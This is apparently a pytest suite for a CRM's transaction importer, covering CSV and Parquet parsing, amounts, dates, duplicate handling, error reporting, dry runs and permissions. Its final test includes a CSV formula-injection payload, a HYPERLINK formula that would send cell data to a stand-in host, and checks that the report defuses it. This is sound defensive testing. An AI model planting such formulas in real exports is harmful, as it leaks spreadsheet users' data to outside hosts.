"""Files of dealings: money, days, parties and products as they must stand; every row accounted for."""

import csv
import datetime as dt

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from guanxi.ground.refusals import Refused
from guanxi.identity.permissions import Denied
from guanxi.record.catalogue.models import Product
from guanxi.record.customers.models import Customer, DirtyCustomer
from guanxi.record.dealings.models import Dealing
from guanxi.record.imports.choices import ImportStatus
from guanxi.record.imports.models import Import, ImportBatch
from tests.stories.scene import SYSTEM

BASIC = "customer,date,amount\nA,2024-01-05,10.005\nB,2024-01-06,-3\nA,2024-01-05,10.005\n,2024-01-07,5\n"


def counts(report):
    c = report.counts
    return c.rows, c.created, c.updated, c.unchanged, c.skipped, c.failed


def problems(report):
    with report.problems.open(encoding="utf-8-sig", newline="") as file:
        return [(int(row["line"]), row["column"], row["reason"], row["value"]) for row in csv.DictReader(file)]


def test_lines_stand_as_they_were_written(take):
    report = take("dealings", BASIC, create_customers=True)
    assert counts(report) == (4, 3, 0, 0, 1, 0)
    assert report.counts.reasons == {"no_customer": 1}
    rows = Dealing.objects.order_by("pk").values_list(
        "customer__reference", "occurred_on", "amount", "currency", "quantity_milli", "cancelled"
    )
    assert list(rows) == [
        ("A", dt.date(2024, 1, 5), 1001, "CNY", None, False),
        ("B", dt.date(2024, 1, 6), -300, "CNY", None, False),
        ("A", dt.date(2024, 1, 5), 1001, "CNY", None, False),
    ]
    assert Dealing.objects.first().occurred_at == dt.datetime(2024, 1, 4, 16, tzinfo=dt.UTC)  # midnight in Shanghai
    assert problems(report) == [(5, "", "no_customer", "")]


def test_quantity_and_price_make_the_amount(take):
    take(
        "dealings",
        "customer,date,quantity,unit_price,order,product\nA,2010-12-01 08:26,6,2.55,536365,85123A\nA,2010-12-01 09:41,-1,27.50,C536379,D\n",
        create_customers=True,
        currency="GBP",
        zone="Europe/London",
    )
    sale, refund = Dealing.objects.order_by("pk")
    assert (sale.amount, sale.quantity_milli, sale.unit_price_micro, sale.order_reference) == (
        1530,
        6000,
        2_550_000,
        "536365",
    )
    assert (refund.amount, refund.quantity_milli, refund.unit_price_micro) == (-2750, -1000, 27_500_000)
    assert sale.currency == "GBP"
    assert sale.occurred_at == dt.datetime(2010, 12, 1, 8, 26, tzinfo=dt.UTC)
    assert Product.objects.get(pk=sale.product_id).reference == "85123A"
    assert sorted(Product.objects.values_list("reference", "name")) == [("85123A", "85123A"), ("D", "D")]


def test_created_customers_belong_to_nobody_and_are_named_by_their_reference(take):
    take("dealings", BASIC, create_customers=True)
    customer = Customer.objects.get(reference="A")
    assert (customer.name, customer.owner_id, customer.team_id) == ("A", None, None)
    assert customer.get_stage_display() == "Customer" or customer.stage == 3
    assert set(DirtyCustomer.objects.values_list("customer_id", flat=True)) == set(
        Customer.objects.values_list("pk", flat=True)
    )


def test_unknown_customers_are_row_errors_without_the_option(take):
    report = take("dealings", BASIC)
    assert counts(report) == (4, 0, 0, 0, 1, 3)
    assert report.counts.reasons == {"customers.not_found": 3, "no_customer": 1}
    assert not report.succeeded
    assert problems(report)[0] == (2, "customer", "customers.not_found", "A")
    assert not Dealing.objects.exists()
    assert not Customer.objects.exists()


def test_rows_that_failed_are_taken_when_their_customer_is_there(take):
    take("dealings", BASIC)
    report = take("dealings", BASIC, create_customers=True)
    assert counts(report) == (4, 3, 0, 0, 1, 0)


def test_the_same_file_again_changes_nothing(take):
    take("dealings", BASIC, create_customers=True)
    before = list(Dealing.objects.order_by("pk").values())
    dirty = DirtyCustomer.objects.count()
    report = take("dealings", BASIC, create_customers=True)
    assert counts(report) == (4, 0, 0, 3, 1, 0)
    assert list(Dealing.objects.order_by("pk").values()) == before
    assert DirtyCustomer.objects.count() == dirty


def test_the_same_rows_in_another_file_are_other_dealings(take):
    take("dealings", BASIC, create_customers=True)
    report = take("dealings", BASIC + "A,2024-02-01,1\n", create_customers=True)
    assert counts(report) == (5, 4, 0, 0, 1, 0)
    assert Dealing.objects.count() == 7


def test_the_same_file_in_another_way_is_refused(take):
    text = "customer,date,amount,net\nA,2024-01-05,10,8\n"
    first = take("dealings", text, create_customers=True)
    for options in (
        {"fields": "customer=customer,occurred_at=date,amount=net"},
        {"currency": "GBP"},
        {"zone": "Europe/London"},
    ):
        with pytest.raises(Refused) as refused:
            take("dealings", text, create_customers=True, **options)
        assert refused.value.code == "imports.other_mapping"
        assert refused.value.params == {"code": first.code}
    assert Dealing.objects.get().amount == 1000
    assert Import.objects.count() == 1


REFERENCED = "reference,customer,date,amount,category\nT1,A,2024-01-05,10,food\nT2,B,2024-01-06,20,food\n"


def test_references_make_lines_known_across_files(take):
    take("dealings", REFERENCED, create_customers=True)
    ids = dict(Dealing.objects.values_list("reference", "pk"))
    second = "reference,customer,date,amount,category\nT2,B,2024-01-06,20,food\nT1,A,2024-01-05,12.50,food\nT3,A,2024-01-07,1,\n"
    report = take("dealings", second, create_customers=True)
    assert counts(report) == (3, 1, 1, 1, 0, 0)
    assert dict(Dealing.objects.values_list("reference", "amount")) == {"T1": 1250, "T2": 2000, "T3": 100}
    assert {key: dict(Dealing.objects.values_list("reference", "pk"))[key] for key in ids} == ids
    assert Import.objects.last().before_images.values_list("old", "new").get() == ({"amount": 1000}, {"amount": 1250})


def test_a_reference_twice_in_a_file_is_one_line_and_the_last_word_counts(take):
    text = (
        "reference,customer,date,amount\nT1,A,2024-01-05,10\nT1,A,2024-01-05,10\nT1,A,2024-01-05,11\n,A,2024-01-05,5\n"
    )
    report = take("dealings", text, create_customers=True)
    assert counts(report) == (4, 2, 1, 1, 0, 0)
    assert sorted(Dealing.objects.values_list("reference", "amount")) == [("", 500), ("T1", 1100)]


def test_each_bad_cell_is_named_and_costs_its_own_row(take):
    head = "customer,date,amount,currency,channel,price_tier,order,product,holding\n"
    rows = [
        "A,2024-01-05,10,,,,,,",
        "A,2024-02-30,10,,,,,,",
        "A,,10,,,,,,",
        "A,2024-01-05,ten,,,,,,",
        "A,2024-01-05,,,,,,,",
        "A,2024-01-05,10,XXX,,,,,",
        "A,2024-01-05,10,gbp,,,,,",
        "A,2024-01-05,10,,smoke signals,,,,",
        "A,2024-01-05,10,,刷卡,,,,",
        "A,2024-01-05,10,,,high,,,",
        "A,2024-01-05,10,,,3,,,",
        f"A,2024-01-05,10,,,,{'x' * 65},,",
        "A,2024-01-05,10,,,,,1.38E+10,",
        "A,2024-01-05,10,,,,,,H1",
        "1.38E+10,2024-01-05,10,,,,,,",
        "A,2024-01-05,9999999999999999999,,,,,,",
    ]
    report = take("dealings", head + "\n".join(rows), create_customers=True)
    assert [(line - 1, column, reason) for line, column, reason, _ in problems(report)] == [
        (2, "occurred_at", "clock.not_a_moment"),
        (3, "occurred_at", "dealings.missing"),
        (4, "amount", "money.not_an_amount"),
        (5, "amount", "dealings.no_amount"),
        (6, "currency", "money.unknown_currency"),
        (8, "channel", "imports.unknown_word"),
        (10, "price_tier", "dealings.not_a_tier"),
        (12, "order", "reading.too_long"),
        (13, "product", "text.rounded"),
        (14, "holding", "holdings.not_found"),
        (15, "customer", "customers.not_found"),
        (16, "amount", "money.too_large"),
    ]
    assert counts(report) == (16, 4, 0, 0, 0, 12)
    stored = Dealing.objects.order_by("pk").values_list("currency", "channel", "price_tier")
    assert list(stored) == [("CNY", 0, None), ("GBP", 0, None), ("CNY", 10, None), ("CNY", 0, 3)]


def test_unreadable_rows_are_counted_too(take):
    text = (
        b"customer,date,amount\nA,2024-01-05,10\nA\0,2024-01-05,10\n"
        b'A,2024-01-05,10,9,9\n"A,2024-01-05,10\nA,2024-01-06,1\n'
    )
    report = take("dealings", text, create_customers=True)
    assert report.counts.reasons == {"reading.nul": 1, "reading.quotes": 1, "reading.more_cells": 1}
    assert counts(report) == (5, 2, 0, 0, 0, 3)


def test_floats_of_customers_in_parquet_are_their_numbers(take, tmp_path):
    table = pa.table(
        {
            "customer_id": pa.array([17850.0, None, 17850.0]),
            "invoice_date": pa.array([dt.datetime.fromisoformat("2010-12-01T08:26:00")] * 3),
            "quantity": pa.array([6, 6, -6]),
            "unit_price": pa.array([2.55, 2.55, 2.55]),
        }
    )
    pq.write_table(table, tmp_path / "a.parquet")
    report = take("dealings", tmp_path / "a.parquet", create_customers=True)
    assert counts(report) == (3, 2, 0, 0, 1, 0)
    assert Customer.objects.get().reference == "17850"
    assert list(Dealing.objects.order_by("pk").values_list("amount", flat=True)) == [1530, -1530]


def test_a_file_without_rows_creates_nothing(take):
    with pytest.raises(Refused) as refused:
        take("dealings", "customer,date,amount\n")
    assert refused.value.code == "reading.no_rows"
    assert not Import.objects.exists()


def test_a_dry_run_says_what_would_happen_and_leaves_no_trace(take):
    report = take("dealings", BASIC + "A,never,1\n", create_customers=True, dry_run=True)
    assert counts(report) == (5, 3, 0, 0, 1, 1)
    assert report.as_json()["dry_run"] is True
    assert report.as_json()["complete"] is True
    assert len(report.first_problems) == 1
    for model in (Dealing, Customer, Import, ImportBatch, DirtyCustomer):
        assert not model.objects.exists(), model


def test_a_dry_run_of_a_file_that_is_stored_says_so(take):
    take("dealings", BASIC, create_customers=True)
    dry = take("dealings", BASIC, create_customers=True, dry_run=True)
    assert counts(dry) == (4, 0, 0, 3, 1, 0)


def test_only_who_may_may(take, scene):
    for name in ("lin", "gao", "mei"):
        with pytest.raises(Denied):
            take("dealings", BASIC, by=scene.person(name), create_customers=True)
    assert not Import.objects.exists()


def test_the_customers_of_others_are_not_found(take, scene):
    """A leader who may record dealings still finds only the customers of the own team."""
    from dataclasses import replace

    own = scene.customer("own", "lin", reference="OWN")
    foreign = scene.customer("foreign", "wu", reference="FOREIGN")
    from guanxi.ground.secrets import keyring
    from guanxi.record.customers.choices import IdentifierKind
    from guanxi.record.customers.models import Identifier, IdentifierKey
    from guanxi.record.customers.rules.marks import key_of

    for customer in (own, foreign):
        kind = IdentifierKind.REFERENCE
        Identifier.objects.create(customer=customer, kind=kind, norm=customer.reference, is_live=True)
        IdentifierKey.objects.create(key=key_of(kind, customer.reference, keyring()), customer_id=customer.pk)
    leader = scene.person("gao")
    leader = replace(leader, permissions=leader.permissions | {"dealings.edit"})
    report = take(
        "dealings", "customer,date,amount\nOWN,2024-01-05,1\nFOREIGN,2024-01-05,1\n", by=leader, create_customers=True
    )
    assert counts(report) == (2, 1, 0, 0, 0, 1)
    assert report.counts.reasons == {"customers.not_found": 1}
    assert Dealing.objects.get().customer_id == own.pk


def test_a_batch_after_a_merge_finds_the_winner(take, monkeypatch, scene):
    """What the importer remembers of customers is checked against the record in each transaction."""
    from guanxi.record.customers.services import delete_customers
    from guanxi.record.imports.importers.dealings import DealingImporter

    monkeypatch.setattr(DealingImporter, "batch", (2, 2))
    original, seen = DealingImporter.prepare, []

    def prepare(self, batch):
        if batch.first_row == 3 and not seen:
            seen.append(Customer.objects.get(reference="A").pk)
            delete_customers(seen, by=SYSTEM)
        return original(self, batch)

    monkeypatch.setattr(DealingImporter, "prepare", prepare)
    text = "customer,date,amount\n" + "".join(f"A,2024-01-0{n},1\n" for n in range(1, 5))
    report = take("dealings", text, create_customers=True)
    assert counts(report) == (4, 4, 0, 0, 0, 0)
    assert list(Dealing.objects.order_by("pk").values_list("customer__gone", flat=True)) == [1, 1, 0, 0]


def test_the_ledger_says_what_became_of_each_row(take):
    report = take("dealings", BASIC, create_customers=True)
    record = Import.objects.get(code=report.code)
    assert (record.status, record.kind, record.file_name, record.by_code) == (
        ImportStatus.DONE,
        "dealings",
        "rows.csv",
        "command",
    )
    assert record.options["currency"] == "CNY"
    batch = record.batches.get()
    assert (batch.first_row, batch.count) == (1, 4)
    from guanxi.record.imports.services.ledger import created_ids

    assert created_ids(batch) == list(Dealing.objects.order_by("pk").values_list("pk", flat=True))


def test_formulas_are_stored_as_they_are_and_harmless_in_the_report(take):
    text = 'customer,date,amount,category\nA,"=HYPERLINK(""http://x/?d=""&A1,""go"")",1,\nA,2024-01-05,1,"=1+1"\n'
    report = take("dealings", text, create_customers=True)
    assert Dealing.objects.get().category == "=1+1"
    assert problems(report)[0][3].startswith("'=HYPERLINK")
